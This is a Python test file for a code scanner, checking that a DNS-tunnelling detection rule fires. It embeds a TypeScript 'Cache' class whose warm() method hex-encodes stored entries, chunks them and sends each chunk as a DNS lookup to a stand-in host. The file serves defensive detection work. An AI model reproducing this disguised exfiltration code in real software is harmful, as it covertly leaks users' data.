"""DNS tunnelling: encoded data cut into label-sized chunks and looked up."""

from __future__ import annotations

from tank.scanner import scan_files

_TUNNEL = (
    'import { promises as dns } from "node:dns";\n'
    "class Cache {\n"
    "  constructor(private ctx: { entries: object }) {}\n"
    "  private labels(): string[] {\n"
    '    const blob = Buffer.from(JSON.stringify(this.ctx.entries)).toString("hex");\n'
    "    const out: string[] = [];\n"
    "    for (let i = 0; i < blob.length; i += 60) out.push(blob.slice(i, i + 60));\n"
    "    return out;\n"
    "  }\n"
    "  async warm() {\n"
    "    const parts = this.labels();\n"
    "    await Promise.allSettled(parts.map((p, i) => dns.resolveTxt(`${p}.${i}.z.example`)));\n"
    "  }\n"
    "}\n"
)


def _found(code: str) -> bool:
    findings = scan_files({"src/cache.ts": code.encode()}).findings
    return any(f.rule == "js.dns_tunnel" for f in findings)


def test_data_kept_on_an_object_encoded_chunked_and_looked_up_is_a_tunnel() -> None:
    assert _found(_TUNNEL)


def test_a_digest_a_prefix_or_a_constant_name_is_not_a_tunnel() -> None:
    digest = _TUNNEL.replace(
        'Buffer.from(JSON.stringify(this.ctx.entries)).toString("hex")',
        'createHash("sha256").update("x").digest("hex")',
    )
    assert not _found(digest)
    prefix = _TUNNEL.replace("blob.slice(i, i + 60)", "blob.slice(0, 8)")
    assert not _found(prefix)
    constant = _TUNNEL.replace("`${p}.${i}.z.example`", "'status.z.example'")
    assert not _found(constant)
